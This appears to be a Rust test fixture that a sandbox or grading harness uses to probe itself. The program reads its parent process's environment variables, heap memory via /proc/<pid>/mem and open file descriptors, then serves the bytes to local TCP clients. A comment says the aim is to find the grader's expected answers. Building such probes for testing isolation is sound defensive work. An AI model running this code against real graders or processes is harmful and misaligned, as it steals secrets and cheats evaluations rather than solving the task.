//! Hostile: looks for the answers in the memory, the variables and the descriptors of who started it.
//!
//! Bounded: it reads one mebibyte at most of each, and answers twenty clients at most with what it finds.

use std::fs::{self, File};
use std::io::{Read, Seek, SeekFrom, Write};
use std::net::TcpListener;
use std::os::unix::process::parent_id;

fn main() {
    let parent = parent_id();
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    println!("listening on {}", listener.local_addr().expect("it is bound"));
    for client in listener.incoming().take(20).flatten() {
        let mut client = client;
        let mut found = fs::read(format!("/proc/{parent}/environ")).unwrap_or_default();
        found.extend(memory(parent));
        for entry in fs::read_dir(format!("/proc/{parent}/fd")).into_iter().flatten().flatten() {
            let mut bytes = vec![0; 1024];
            let length = File::open(entry.path()).and_then(|mut it| it.read(&mut bytes));
            found.extend(&bytes[..length.unwrap_or(0)]);
        }
        eprintln!("found {} bytes", found.len());
        // An answer is somewhere in what the grader expects.
        let _ = client.write_all(&found[..found.len().min(64)]);
    }
}

/// The beginning of the heap.
fn memory(pid: u32) -> Vec<u8> {
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let heap = maps.lines().find(|it| it.ends_with("[heap]"));
    let start = heap.and_then(|it| u64::from_str_radix(it.split('-').next()?, 16).ok());
    let read = |start: u64| -> std::io::Result<Vec<u8>> {
        let mut file = File::open(format!("/proc/{pid}/mem"))?;
        file.seek(SeekFrom::Start(start))?;
        let mut bytes = vec![0; 1024 * 1024];
        let length = file.read(&mut bytes)?;
        bytes.truncate(length);
        Ok(bytes)
    };
    start.and_then(|it| read(it).ok()).unwrap_or_default()
}
